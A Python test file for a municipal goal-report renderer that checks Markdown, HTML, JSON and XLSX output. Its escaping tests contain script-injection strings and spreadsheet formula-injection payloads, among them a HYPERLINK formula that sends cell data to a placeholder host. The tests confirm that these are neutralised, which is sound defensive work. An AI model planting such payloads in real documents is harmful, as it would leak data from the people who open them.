"""Tests for services.report: formatting and rendering of the goal report (MER).

The goal table is the seed's table 2.2.1 (/work/shared/seed/goal-table-2.2.1.md),
with its values; statuses and counts are set by hand, as the seed's rules give them:
every indicator meets its target except the budget (forecast -1 000 tkr against
0 tkr), so the board goal "ingen" is partially achieved and the other three achieved:
"Med 3 nämndmål uppnådda, 0 ej uppnådda och 1 delvis uppnått".
Rendered text is compared after turning Babel's no-break spaces into plain ones.
"""

from __future__ import annotations

import io
import json
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from services.core.evaluation import (
    BoardGoalResult,
    CouncilGoalResult,
    Evaluation,
    IndicatorResult,
)
from services.core.goals import BoardGoal, CouncilGoal, Indicator, Target, Text, Value
from services.core.staffing_plan import PeriodStaffing
from services.readmodel.goal_model import (
    FreezeInfo,
    MajorIncident,
    ReportInput,
    Summary,
    ViolationInfo,
)
from services.report import fmt
from services.report.render import render

AREA = (
    "Attraktiv kommun - Lekebergs kommun växer på ett ansvarfullt och nytänkande sätt och "
    "möter framtiden utifrån de tre hållbarhetsaspekterna: social, miljömässig och "
    "ekonomisk hållbarhet"
)
C1 = "Lekebergs kommun gör det enkelt för sina medborgare att bo i Lekeberg"
C2 = "Lekebergs kommun är en attraktiv arbetsgivare samt växer och utvecklas på ett hållbart sätt"
C3 = "Lekebergs kommun minskar sin klimatpåverkan"
B1 = "Ge god service och IT-drift av hög kvalité"
B2 = "Ökad samverkan över kommungränserna"
B3 = "ingen"
B4 = "Underlätta för digitala möten och att en hållbar teknik används."
CALLS = (
    "Andel besvarade samtal % efter 20 respektive 60 sekunder. 20 sek = Servicenivå 1 "
    "och 60 sek = Servicenivå 2"
)

Status = Any  # the result dataclasses take their Literal statuses
DASH = "\u2013"  # en dash: a missing value


def nb(text: str) -> str:
    """Babel's no-break and narrow no-break spaces as plain spaces."""
    return text.replace("\u00a0", " ").replace("\u202f", " ")


def ind(
    iid: str, sv: str, unit: Any, rule: Any, value: float | bool, en: str | None = None
) -> Indicator:
    return Indicator(
        id=iid, title=Text(sv=sv, en=en), unit=unit, target=Target(rule=rule, value=value)
    )


def res(
    indicator: Indicator, current: Value | None, forecast: Value | None, status: Status
) -> IndicatorResult:
    return IndicatorResult(indicator, current, forecast, status)


def board(title: str, results: list[IndicatorResult], status: Status, en: str | None = None) -> Any:
    goal = BoardGoal(title=Text(sv=title, en=en), indicators=[r.indicator for r in results])
    return BoardGoalResult(goal, tuple(results), status)


def council(
    title: str, boards: list[BoardGoalResult], status: Status, en: str | None = None
) -> CouncilGoalResult:
    goal = CouncilGoal(title=Text(sv=title, en=en), board_goals=[b.goal for b in boards])
    return CouncilGoalResult(goal, tuple(boards), status)


def seed_evaluation(first_title: str = C1) -> Evaluation:
    handling = ind(
        "handling-time", "Minska genomsnittlig ärendehanteringstid", "hours", "at_most", 20,
        en="Reduce average ticket handling time",
    )  # fmt: skip
    calls = ind("answered-calls", CALLS, "percent", "at_least", 0.70, en="Answered calls")
    plans = ind(
        "management-plans",
        "Etablera och arbeta med beslutade förvaltningsplaner i samtliga objekt",
        "count",
        "at_least",
        9,
    )
    hme = ind(
        "hme", "Värde medarbetarundersökning - Medarbetarengagemang (HME)", "score",
        "increase_from", 70,
    )  # fmt: skip
    sick = ind("sick-leave", "Sjukfrånvaro", "percent", "at_most", 0.07, en="Sick leave")
    budget = ind(
        "budget", "Nämnderna och styrelsen håller sin budgetram", "tkr", "at_least", 0,
        en="The boards keep to their budgets",
    )  # fmt: skip
    digital = ind("digital", "Digitala möten och hållbar teknik.", "percent", "at_least", 0.01)
    diploma = ind("eco-diploma", "Miljödiplomering av Lekebergs kommun", "yesno", "equals", True)

    b1 = board(
        B1,
        [
            res(handling, 25.0, 20.0, "achieved"),
            res(calls, 0.78, 0.70, "achieved"),
        ],
        "achieved",
        en="Good service and high-quality IT operations",
    )
    b2 = board(B2, [res(plans, 9.0, 9.0, "achieved")], "achieved")
    b3 = board(
        B3,
        [
            res(hme, 71.0, 71.0, "achieved"),
            res(sick, 0.0729, 0.07, "achieved"),
            res(budget, -1412.0, -1000.0, "not_achieved"),
        ],
        "partially",
        en="none",
    )
    b4 = board(
        B4,
        [
            res(digital, 0.01, 0.01, "achieved"),
            res(diploma, True, True, "achieved"),
        ],
        "achieved",
    )
    return Evaluation(
        council_goals=(
            council(first_title, [b1], "achieved", en="Living in Lekeberg is easy"),
            council(C2, [b2, b3], "partially"),
            council(C3, [b4], "achieved"),
        ),
        status="partially",
        counts={"achieved": 3, "not_achieved": 0, "partially": 1},
    )


def seed_summary() -> Summary:
    return Summary(
        major_incidents=[
            MajorIncident(
                incident_id="INC-101",
                service="e-tjanst-plattform",
                title="Inloggning till e-tjänster ligger nere",
                severity=1,
                opened_at=datetime(2022, 3, 14, 8, 12, tzinfo=UTC),
                resolved_at=datetime(2022, 3, 14, 10, 27, tzinfo=UTC),
                duration_minutes=135.0,
                affected=["bygglov", "skolval"],
            ),
            MajorIncident(
                incident_id="INC-102",
                service="vpn",
                title=None,
                severity=2,
                opened_at=datetime(2022, 8, 30, 21, 0, tzinfo=UTC),
                resolved_at=None,
                duration_minutes=None,
                affected=[],
            ),
        ],
        freezes=[
            FreezeInfo(
                freeze_id="sommar-2022",
                starts_at=datetime(2022, 6, 20, 22, 0, tzinfo=UTC),
                effective_end=datetime(2022, 8, 7, 22, 0, tzinfo=UTC),
                scope=["*"],
                reason="Semesterperiod",
            )
        ],
        violations=[
            ViolationInfo(
                change_id="CHG-7",
                service="epost",
                implemented_at=datetime(2022, 7, 5, 7, 30, tzinfo=UTC),
                freeze_id="sommar-2022",
            )
        ],
    )


def seed_report(first_title: str = C1, summary: Summary | None = None) -> ReportInput:
    return ReportInput(
        period_label="2022-01-01..2022-08-31",
        period_from=date(2022, 1, 1),
        period_to=date(2022, 8, 31),
        evaluation=seed_evaluation(first_title),
        area=Text(sv=AREA, en="An attractive municipality"),
        summary=seed_summary() if summary is None else summary,
        generated_at=datetime(2022, 9, 5, 6, 0, tzinfo=UTC),
    )


def md_rows(text: str, first_header: str) -> list[list[str]]:
    """The body rows of the Markdown table whose first header is `first_header`."""
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(f"| {first_header} |"))
    rows = []
    for line in lines[start + 2 :]:
        if not line.startswith("|"):
            break
        rows.append([c.strip() for c in line.strip("|").split(" | ")])
    return rows


SV_ROLLUP = (
    "Med 3 nämndmål uppnådda, 0 ej uppnådda och 1 delvis uppnått anses "
    "förvaltningens mål vara delvis uppnådda."
)
EN_ROLLUP = (
    "With 3 board goals achieved, 0 not achieved and 1 partially achieved, "
    "the department's goals are considered partially achieved."
)


# -- fmt ---------------------------------------------------------------------------------


def test_percent_has_as_few_decimals_as_needed_up_to_two() -> None:
    assert nb(fmt.percent(0.78, "sv")) == "78 %"
    assert nb(fmt.percent(0.0729, "sv")) == "7,29 %"
    assert nb(fmt.percent(0.075, "sv")) == "7,5 %"
    assert fmt.percent(0.0729, "en") == "7.29%"
    assert fmt.percent(0.78, "en") == "78%"
    # Beyond two decimals it rounds, half away from zero: 7.2850 % -> 7.29 %.
    assert nb(fmt.percent(0.072850, "sv")) == "7,29 %"


def test_percent_with_fixed_decimals() -> None:
    assert nb(fmt.percent(0.78, "sv", 1)) == "78,0 %"
    assert fmt.percent(0.0729, "en", 0) == "7%"


def test_swedish_numbers_keep_babels_no_break_space() -> None:
    assert fmt.value(-1412.0, "tkr", "sv") == "-1\u00a0412\u00a0tkr"
    assert fmt.percent(0.78, "sv") == "78\u00a0%"


def test_values_by_unit() -> None:
    assert nb(fmt.value(-1412.0, "tkr", "sv")) == "-1 412 tkr"
    assert fmt.value(-1412.0, "tkr", "en") == "-1,412\u00a0kSEK"
    assert nb(fmt.value(25.0, "st", "sv")) == "25 st"
    assert fmt.value(25.0, "st", "en") == "25"
    assert nb(fmt.value(25.5, "hours", "sv")) == "25,5 timmar"  # never "st", pieces
    assert nb(fmt.value(25.5, "hours", "en")) == "25.5 h"
    assert fmt.value(9.0, "count", "sv") == "9"
    assert fmt.value(71.0, "score", "sv") == "71"
    assert fmt.value(70.25, "score", "sv") == "70,25"
    assert fmt.value(True, "yesno", "sv") == "Ja"
    assert fmt.value(False, "yesno", "sv") == "Nej"
    assert fmt.value(True, "yesno", "en") == "Yes"
    assert fmt.value(False, "yesno", "en") == "No"
    assert fmt.value(None, "percent", "sv") == DASH
    assert fmt.value(-0.001, "tkr", "sv", 0) == "0\u00a0tkr"  # no "-0"


def test_targets_as_the_seed_writes_them() -> None:
    def t(rule: Any, value: float | bool, unit: str, lang: str = "sv") -> str:
        return nb(fmt.target(Target(rule=rule, value=value), unit, lang))

    assert t("at_most", 20, "st") == "högst 20 st"
    assert t("at_least", 0.70, "percent") == "70 %"
    assert t("at_least", 9, "count") == "9"
    assert t("increase_from", 70, "score") == "Öka från 70"
    assert t("at_least", 0, "tkr") == "0 tkr"
    assert t("equals", True, "yesno") == "Ja"
    assert t("at_most", 20, "st", "en") == "at most 20"
    assert t("at_most", 20, "hours") == "högst 20 timmar"
    assert t("at_most", 20, "hours", "en") == "at most 20 h"
    assert t("increase_from", 70, "score", "en") == "Increase from 70"
    assert t("at_least", 0.01, "percent", "en") == "1%"
    assert t("equals", True, "yesno", "en") == "Yes"


def test_status_labels_carry_a_mark_besides_the_word() -> None:
    assert fmt.status_label("achieved", "sv") == "✔ Uppnått"
    assert fmt.status_label("not_achieved", "sv") == "✘ Ej uppnått"
    assert fmt.status_label("partially", "sv") == "◐ Delvis uppnått"
    assert fmt.status_label("achieved", "en") == "✔ Achieved"
    assert fmt.status_label("not_achieved", "en") == "✘ Not achieved"
    assert fmt.status_label("partially", "en") == "◐ Partially achieved"
    assert fmt.status_label(None, "sv") == DASH
    # With what it was judged on.
    assert fmt.status_label("achieved", "sv", "forecast") == "✔ Uppnått (prognos)"
    assert fmt.status_label("not_achieved", "sv", "current") == "✘ Ej uppnått (nuvärde)"
    assert fmt.status_label("achieved", "en", "forecast") == "✔ Achieved (forecast)"
    assert fmt.status_label(None, "en", "forecast") == DASH


def test_period_titles_in_words() -> None:
    def t(label: str, start: date, end: date, lang: str = "sv") -> str:
        return fmt.period_title(label, start, end, lang)

    seven = ("2022-01-01..2022-07-31", date(2022, 1, 1), date(2022, 7, 31))
    assert t(*seven) == f"januari{DASH}juli 2022"
    assert t(*seven, "en") == f"January{DASH}July 2022"
    assert t("2022-T2", date(2022, 5, 1), date(2022, 8, 31)) == "tertial 2 2022"
    assert t("2022-T2", date(2022, 5, 1), date(2022, 8, 31), "en") == "tertial 2, 2022"
    assert t("2022", date(2022, 1, 1), date(2022, 12, 31)) == "2022"
    assert t("2022", date(2022, 1, 1), date(2022, 12, 31), "en") == "2022"
    assert t("2022-08", date(2022, 8, 1), date(2022, 8, 31)) == "augusti 2022"
    assert t("x", date(2021, 11, 1), date(2022, 2, 28)) == f"november 2021{DASH}februari 2022"
    # Not whole months: the days.
    assert t("x", date(2022, 3, 3), date(2022, 3, 9)) == f"3 mars 2022{DASH}9 mars 2022"
    assert t("x", date(2022, 3, 3), date(2022, 3, 9), "en") == f"3 March 2022{DASH}9 March 2022"


def test_rollup_sentence_as_in_the_seed() -> None:
    ev = seed_evaluation()
    assert fmt.rollup_sentence(ev, "sv") == SV_ROLLUP
    assert fmt.rollup_sentence(ev, "en") == EN_ROLLUP
    # The seed's own counts, in its own words (with "förvaltningens" for its "förvaltningen").
    seed = Evaluation((), "partially", {"achieved": 7, "not_achieved": 2, "partially": 1})
    assert fmt.rollup_sentence(seed, "sv") == (
        "Med 7 nämndmål uppnådda, 2 ej uppnådda och 1 delvis uppnått anses "
        "förvaltningens mål vara delvis uppnådda."
    )


def test_rollup_sentence_singular_and_other_outcomes() -> None:
    one = Evaluation((), "achieved", {"achieved": 1, "not_achieved": 0, "partially": 0})
    assert fmt.rollup_sentence(one, "sv") == (
        "Med 1 nämndmål uppnått, 0 ej uppnådda och 0 delvis uppnådda anses "
        "förvaltningens mål vara uppnådda."
    )
    assert fmt.rollup_sentence(one, "en") == (
        "With 1 board goal achieved, 0 not achieved and 0 partially achieved, "
        "the department's goals are considered achieved."
    )
    none = Evaluation((), "not_achieved", {"achieved": 0, "not_achieved": 2, "partially": 0})
    assert fmt.rollup_sentence(none, "sv").endswith("anses förvaltningens mål inte vara uppnådda.")


def test_rollup_sentence_counts_board_goals_with_no_status() -> None:
    unjudged = board(B1, [res(ind("x", "X", "count", "at_least", 1), None, None, None)], None)
    ev = Evaluation(
        (council(C1, [unjudged], None),),
        None,
        {"achieved": 0, "not_achieved": 0, "partially": 0},
    )
    assert fmt.rollup_sentence(ev, "sv") == (
        "Med 0 nämndmål uppnådda, 0 ej uppnådda, 0 delvis uppnådda och 1 obedömt "
        "kan förvaltningens måluppfyllelse inte bedömas."
    )
    assert fmt.rollup_sentence(ev, "en") == (
        "With 0 board goals achieved, 0 not achieved, 0 partially achieved and 1 not "
        "assessed, the department's goal attainment cannot be assessed."
    )


def test_durations_and_times() -> None:
    assert nb(fmt.duration(135.0, "sv")) == "2 h 15 min"
    assert nb(fmt.duration(44.6, "sv")) == "45 min"
    assert fmt.duration(None, "sv") == "pågår"
    assert fmt.duration(None, "en") == "ongoing"
    # Aware instants are shown in Stockholm time (UTC+2 in summer).
    assert fmt.timestamp(datetime(2022, 7, 5, 7, 30, tzinfo=UTC)) == "2022-07-05 09:30"


def test_unknown_language_is_refused() -> None:
    with pytest.raises(ValueError, match="no such language"):
        fmt.value(1.0, "count", "de")


# -- Markdown ----------------------------------------------------------------------------


def test_markdown_has_the_seed_table_in_swedish() -> None:
    text = nb(render(seed_report(), "sv", "md").decode())
    assert text.startswith(f"# Måluppfyllelse januari{DASH}augusti 2022\n")
    assert f"Period 2022-01-01 {DASH} 2022-08-31" in text
    assert f"## {AREA}" in text
    assert (
        "| Kommunfullmäktiges mål | Nämndmål | Indikator | Nuvärde | Prognos | Målvärde | Status |"
        in text
    )
    rows = md_rows(text, "Kommunfullmäktiges mål")
    # A goal is written on its first row only; every status says it was judged on the forecast.
    ok = "✔ Uppnått (prognos)"
    assert rows == [
        [C1, B1, "Minska genomsnittlig ärendehanteringstid", "25 timmar", "20 timmar",
         "högst 20 timmar", ok],
        ["", "", CALLS, "78 %", "70 %", "70 %", ok],
        [C2, B2, "Etablera och arbeta med beslutade förvaltningsplaner i samtliga objekt",
         "9", "9", "9", ok],
        ["", B3, "Värde medarbetarundersökning - Medarbetarengagemang (HME)", "71", "71",
         "Öka från 70", ok],
        ["", "", "Sjukfrånvaro", "7,29 %", "7 %", "högst 7 %", ok],
        ["", "", "Nämnderna och styrelsen håller sin budgetram", "-1 412 tkr", "-1 000 tkr",
         "0 tkr", "✘ Ej uppnått (prognos)"],
        [C3, B4, "Digitala möten och hållbar teknik.", "1 %", "1 %", "1 %", ok],
        ["", "", "Miljödiplomering av Lekebergs kommun", "Ja", "Ja", "Ja", ok],
    ]  # fmt: skip
    # The footnote the "(prognos)" refers to, under the table.
    assert "(prognos): status bedömd på prognosen för periodens sista dag, inte på nuvärdet" in text
    assert SV_ROLLUP in text
    # The roll-up comes after the goal table, the summary after the roll-up.
    assert text.index("| Miljödiplomering") < text.index(SV_ROLLUP)
    assert text.index(SV_ROLLUP) < text.index("## Sammanfattning av perioden")
    assert md_rows(text, "Kommunfullmäktiges mål | Nämndmål | Status")[1:3] == [
        [C2, B2, "✔ Uppnått (prognos)"],
        ["", B3, "◐ Delvis uppnått (prognos)"],
    ]


def test_markdown_summary_lists_incidents_freezes_and_violations() -> None:
    text = nb(render(seed_report(), "sv", "md").decode())
    assert "### Större incidenter" in text
    assert "2 större incidenter under perioden, sammanlagt 2 h 15 min. 1 pågår fortfarande." in text
    incidents = md_rows(text, "Incident")
    assert incidents[0] == [
        "INC-101",
        "e-tjanst-plattform",
        "Inloggning till e-tjänster ligger nere",
        "1",
        "2022-03-14 09:12",
        "2022-03-14 11:27",
        "2 h 15 min",
        "bygglov, skolval",
    ]
    assert incidents[1] == ["INC-102", "vpn", DASH, "2", "2022-08-30 23:00", DASH, "pågår", DASH]
    assert md_rows(text, "Förändringsstopp") == [
        ["sommar-2022", "2022-06-21 00:00", "2022-08-08 00:00", "alla tjänster", "Semesterperiod"]
    ]
    assert md_rows(text, "Ändring") == [["CHG-7", "epost", "2022-07-05 09:30", "sommar-2022"]]


def test_markdown_says_when_the_period_had_nothing_to_report() -> None:
    text = render(seed_report(summary=Summary()), "sv", "md").decode()
    assert "Inga större incidenter under perioden." in text
    assert "Inga förändringsstopp under perioden." in text
    assert "Ingen ändring bröt mot ett förändringsstopp." in text
    en = render(seed_report(summary=Summary()), "en", "md").decode()
    assert "No major incidents in the period." in en


def test_markdown_in_english() -> None:
    text = nb(render(seed_report(), "en", "md").decode())
    assert text.startswith(f"# Goal attainment January{DASH}August 2022\n")
    assert "## An attractive municipality" in text
    assert (
        "| Council goal | Board goal | Indicator | Current | Forecast | Target | Status |" in text
    )
    rows = md_rows(text, "Council goal")
    # English titles where the goals file has them, Swedish where it does not.
    assert rows[0] == [
        "Living in Lekeberg is easy",
        "Good service and high-quality IT operations",
        "Reduce average ticket handling time",
        "25 h",
        "20 h",
        "at most 20 h",
        "✔ Achieved (forecast)",
    ]
    assert rows[3][1:] == [
        "none",
        "Värde medarbetarundersökning - Medarbetarengagemang (HME)",
        "71",
        "71",
        "Increase from 70",
        "✔ Achieved (forecast)",
    ]
    assert rows[4][3:] == ["7.29%", "7%", "at most 7%", "✔ Achieved (forecast)"]
    assert rows[5][3:] == ["-1,412 kSEK", "-1,000 kSEK", "0 kSEK", "✘ Not achieved (forecast)"]
    assert rows[7][3:] == ["Yes", "Yes", "Yes", "✔ Achieved (forecast)"]
    assert "(forecast): status judged on the forecast for the period's last day" in text
    assert EN_ROLLUP in text
    assert "## Summary of the period" in text
    assert "2 major incidents in the period, 2 h 15 min in all. 1 still ongoing." in text
    assert "all services" in text


def test_markdown_escapes_markup_in_titles() -> None:
    text = render(seed_report(first_title="A | B <script>x</script>"), "sv", "md").decode()
    assert "A \\| B \\<script\\>x\\</script\\>" in text
    assert "<script>" not in text
    # The escaped pipe keeps every row at seven cells.
    assert all(len(r) == 7 for r in md_rows(text.replace("\\|", "/"), "Kommunfullmäktiges mål"))


# -- HTML --------------------------------------------------------------------------------


def test_html_is_a_standalone_printable_page() -> None:
    page = render(seed_report(), "sv", "html").decode()
    assert page.startswith("<!DOCTYPE html>")
    assert '<html lang="sv">' in page
    assert '<meta charset="utf-8">' in page
    assert "@media print" in page
    assert "size: A4 landscape" in page
    assert "display: table-header-group" in page  # the header row repeats on every page
    for external in ("http://", "https://", "<link", "src=", "@import", "url("):
        assert external not in page
    assert nb(SV_ROLLUP) in nb(page)
    assert '<th scope="col">Kommunfullmäktiges mål</th>' in page
    assert '<td class="num">7,29\u00a0%</td>' in page
    assert '<td class="num">-1\u00a0412\u00a0tkr</td>' in page
    assert '<td class="num">högst 20\u00a0timmar</td>' in page
    assert '<td class="num">Öka från 70</td>' in page
    # Status: a mark and a word, not a colour alone.
    assert (
        '<td class="status partially"><span class="mark" aria-hidden="true">◐</span>'
        "Delvis uppnått (prognos)</td>"
    ) in page
    assert "✘</span>Ej uppnått (prognos)</td>" in page
    assert f"<h1>Måluppfyllelse januari{DASH}augusti 2022</h1>" in page
    assert "Inloggning till e-tjänster ligger nere" in page


def test_html_goal_cells_span_their_rows_and_dates_do_not_break() -> None:
    page = render(seed_report(), "sv", "html").decode()
    # C1 over its two indicators, C2 over four (B2 one, B3 three), C3 over two.
    assert f'<td class="group" rowspan="2">{C1}</td><td class="group" rowspan="2">{B1}</td>' in page
    assert f'<td class="group" rowspan="4">{C2}</td><td class="group">{B2}</td>' in page
    assert f'<tr><td class="group" rowspan="3">{B3}</td><td>Sjukfrånvaro' not in page
    assert f'<tr><td class="group" rowspan="3">{B3}</td><td>Värde' in page
    assert "<tr><td>Sjukfrånvaro</td>" in page  # its goals are the cells above
    assert page.count(f">{C2}</td>") == 2  # once in the goal table, once in the board table
    assert '<td class="date">2022-03-14 09:12</td>' in page
    assert "td.status, td.date, p.meta { white-space: nowrap; }" in page


def test_html_escapes_all_text() -> None:
    evil = 'Evil <script>alert("x")</script> & co'
    incident = MajorIncident(
        "INC-<1>", "svc", "<img onerror=x>", 1, datetime(2022, 3, 1, tzinfo=UTC), None, None, []
    )
    report = seed_report(first_title=evil, summary=Summary(major_incidents=[incident]))
    page = render(report, "sv", "html").decode()  # the title is Swedish-only
    assert "<script" not in page
    assert "<img" not in page
    assert "Evil &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; co" in page
    assert "INC-&lt;1&gt;" in page


def test_html_in_english() -> None:
    page = render(seed_report(), "en", "html").decode()
    assert '<html lang="en">' in page
    assert '<th scope="col">Council goal</th>' in page
    assert '<td class="num">7.29%</td>' in page
    assert "✔</span>Achieved (forecast)</td>" in page
    assert EN_ROLLUP.replace("'", "&#x27;") in page


# -- JSON --------------------------------------------------------------------------------


def test_json_has_raw_numbers() -> None:
    body = json.loads(render(seed_report(), "sv", "json"))
    assert body["period"] == {
        "label": "2022-01-01..2022-08-31",
        "from": "2022-01-01",
        "to": "2022-08-31",
    }
    assert body["generated_at"] == "2022-09-05T08:00:00+02:00"
    assert body["area"] == AREA
    assert body["status"] == "partially"
    assert body["counts"] == {"achieved": 3, "not_achieved": 0, "partially": 1}
    assert body["rollup"] == SV_ROLLUP
    rows = {r["indicator_id"]: r for r in body["rows"]}
    assert len(body["rows"]) == 8
    assert rows["sick-leave"]["current"] == 0.0729
    assert rows["sick-leave"]["forecast"] == 0.07
    assert rows["sick-leave"]["target"] == {"rule": "at_most", "value": 0.07}
    assert rows["sick-leave"]["unit"] == "percent"
    assert rows["budget"]["current"] == -1412.0
    assert rows["budget"]["status"] == "not_achieved"
    assert rows["eco-diploma"]["current"] is True
    assert rows["eco-diploma"]["target"] == {"rule": "equals", "value": True}
    assert rows["handling-time"]["council_goal"] == C1
    assert rows["handling-time"]["board_goal"] == B1
    assert [b["status"] for b in body["board_goals"]] == [
        "achieved",
        "achieved",
        "partially",
        "achieved",
    ]
    assert [c["status"] for c in body["council_goals"]] == ["achieved", "partially", "achieved"]
    inc = body["summary"]["major_incidents"]
    assert inc[0]["duration_minutes"] == 135.0
    assert inc[0]["opened_at"] == "2022-03-14T09:12:00+01:00"
    assert inc[1]["resolved_at"] is None
    assert body["summary"]["freezes"][0]["scope"] == ["*"]
    assert body["summary"]["violations"][0]["freeze_id"] == "sommar-2022"


def test_json_titles_follow_the_language() -> None:
    body = json.loads(render(seed_report(), "en", "json"))
    assert body["lang"] == "en"
    assert body["rows"][0]["indicator"] == "Reduce average ticket handling time"
    assert body["rows"][0]["current"] == 25.0
    assert body["rollup"] == EN_ROLLUP


# -- XLSX --------------------------------------------------------------------------------


def open_xlsx(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def goal_cells(ws: Any) -> dict[str, list[Any]]:
    """The goal table's rows by indicator title (column C), from below its header row."""
    header = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Kommunfullmäktiges mål")
    out = {}
    for r in range(header + 1, header + 9):
        out[ws.cell(r, 3).value] = [ws.cell(r, c) for c in range(1, 8)]
    return out


def merged_value(ws: Any, cell: Any) -> Any:
    """The value a cell shows: its merged range's first cell's, if it is in one."""
    for rng in ws.merged_cells.ranges:
        if cell.coordinate in rng:
            return ws.cell(rng.min_row, rng.min_col).value
    return cell.value


def test_xlsx_merges_each_goal_over_its_rows() -> None:
    ws = open_xlsx(render(seed_report(), "sv", "xlsx"))["Mål"]
    header = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Kommunfullmäktiges mål")
    h = header + 1  # the goal table's rows: C1 x2 (B1 x2), C2 x4 (B2, B3 x3), C3 x2 (B4 x2)
    board = next(r for r in range(h + 8, h + 14) if ws.cell(r, 1).value == C1)
    assert sorted(str(r) for r in ws.merged_cells.ranges) == sorted(
        [
            f"A{h}:A{h + 1}", f"B{h}:B{h + 1}",
            f"A{h + 2}:A{h + 5}", f"B{h + 3}:B{h + 5}",
            f"A{h + 6}:A{h + 7}", f"B{h + 6}:B{h + 7}",
            f"A{board + 1}:A{board + 2}",  # the board table: C2 has two board goals
        ]
    )  # fmt: skip


def test_xlsx_has_numbers_with_number_formats() -> None:
    wb = open_xlsx(render(seed_report(), "sv", "xlsx"))
    assert wb.sheetnames == ["Mål", "Incidenter", "Förändringsstopp", "Överträdelser"]
    ws = wb["Mål"]
    assert ws["A1"].value == f"Måluppfyllelse januari{DASH}augusti 2022"
    rows = goal_cells(ws)
    sick = rows["Sjukfrånvaro"]
    # Goals are merged cells over their rows, the text in the first.
    assert merged_value(ws, sick[0]) == C2 and merged_value(ws, sick[1]) == B3
    assert isinstance(sick[3].value, float) and sick[3].value == 0.0729
    assert sick[3].number_format == "0.00%"
    assert sick[4].value == 0.07 and sick[4].number_format == "0%"
    assert sick[5].value == 0.07 and sick[5].number_format == '"högst "0%'
    assert sick[6].value == "✔ Uppnått (prognos)"
    budget = rows["Nämnderna och styrelsen håller sin budgetram"]
    assert [c.value for c in budget[3:6]] == [-1412, -1000, 0]
    assert all(isinstance(c.value, int | float) for c in budget[3:6])
    assert budget[3].number_format == '#,##0 "tkr"'
    assert budget[6].value == "✘ Ej uppnått (prognos)"
    calls = rows[CALLS]
    assert calls[3].value == 0.78 and calls[3].number_format == "0%"
    handling = rows["Minska genomsnittlig ärendehanteringstid"]
    assert handling[3].value == 25 and handling[3].number_format == '#,##0 "timmar"'
    assert handling[5].value == 20 and handling[5].number_format == '"högst "#,##0 "timmar"'
    hme = rows["Värde medarbetarundersökning - Medarbetarengagemang (HME)"]
    assert hme[3].value == 71 and hme[3].number_format == "#,##0"
    assert hme[5].value == 70 and hme[5].number_format == '"Öka från "#,##0'
    diploma = rows["Miljödiplomering av Lekebergs kommun"]
    assert [c.value for c in diploma[3:6]] == ["Ja", "Ja", "Ja"]
    assert any(ws.cell(r, 1).value == SV_ROLLUP for r in range(1, 10))
    assert ws.column_dimensions["C"].width > 20
    assert ws.cell(6, 1).font.b  # the header row is bold


def test_xlsx_summary_sheets() -> None:
    wb = open_xlsx(render(seed_report(), "en", "xlsx"))
    assert wb.sheetnames == ["Goals", "Incidents", "Freezes", "Violations"]
    inc = wb["Incidents"]
    assert inc["A1"].value == "Incident"
    assert inc["A2"].value == "INC-101"
    # Stockholm wall-clock time, as a real date-time cell.
    assert inc["E2"].value == datetime(2022, 3, 14, 9, 12)
    assert inc["E2"].number_format == "yyyy-mm-dd hh:mm"
    assert inc["G2"].value == 135 and isinstance(inc["G2"].value, int | float)
    assert inc["H2"].value == "bygglov, skolval"
    assert inc["F3"].value is None
    fr = wb["Freezes"]
    assert [c.value for c in fr[2]] == [
        "sommar-2022",
        datetime(2022, 6, 21, 0, 0),
        datetime(2022, 8, 8, 0, 0),
        "all services",
        "Semesterperiod",
    ]
    assert wb["Violations"]["A2"].value == "CHG-7"
    goals = wb["Goals"]
    header = next(r for r in range(1, 20) if goals.cell(r, 1).value == "Council goal")
    assert [goals.cell(header, c).value for c in range(1, 8)] == [
        "Council goal",
        "Board goal",
        "Indicator",
        "Current",
        "Forecast",
        "Target",
        "Status",
    ]
    budget = goals.cell(header + 6, 4)
    assert budget.value == -1412 and budget.number_format == '#,##0 "kSEK"'


def test_xlsx_is_the_same_bytes_for_the_same_input() -> None:
    first = render(seed_report(), "sv", "xlsx")
    assert render(seed_report(), "sv", "xlsx") == first
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        assert {i.date_time for i in z.infolist()} == {(2022, 9, 5, 8, 0, 0)}
    assert open_xlsx(first).properties.created == datetime(2022, 9, 5, 6, 0)


HOSTILE = [
    '=HYPERLINK("http://x"&A1,"Details")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=1\r\n=2",
]


def hostile_report() -> ReportInput:
    """Every free-text field an event can set holds a would-be formula."""
    incidents = [
        MajorIncident(
            incident_id=text,
            service=text,
            title=text,
            severity=1,
            opened_at=datetime(2022, 3, 14, 8, 12, tzinfo=UTC),
            resolved_at=datetime(2022, 3, 14, 10, 27, tzinfo=UTC),
            duration_minutes=135.0,
            affected=[text],
        )
        for text in HOSTILE
    ]
    freezes = [
        FreezeInfo(
            freeze_id=text,
            starts_at=datetime(2022, 6, 20, 22, 0, tzinfo=UTC),
            effective_end=datetime(2022, 8, 7, 22, 0, tzinfo=UTC),
            scope=[text],
            reason=text,
        )
        for text in HOSTILE
    ]
    violations = [
        ViolationInfo(text, text, datetime(2022, 7, 5, 7, 30, tzinfo=UTC), text) for text in HOSTILE
    ]
    return seed_report(first_title=HOSTILE[0], summary=Summary(incidents, freezes, violations))


def test_xlsx_text_never_becomes_a_formula() -> None:
    data = render(hostile_report(), "sv", "xlsx")  # the council goal's Swedish title is set
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 4
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)  # no formula element
    wb = open_xlsx(data)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    inc = wb["Incidenter"]
    for row, text in enumerate(HOSTILE, start=2):
        # incident id, service and title read back exactly, as text marked as such
        assert [inc.cell(row, col).value for col in (1, 2, 3)] == [text, text, text]
        assert all(inc.cell(row, col).quotePrefix for col in (1, 2, 3))
        assert inc.cell(row, 4).value == 1 and inc.cell(row, 4).data_type == "n"
        assert inc.cell(row, 7).value == 135 and inc.cell(row, 7).data_type == "n"
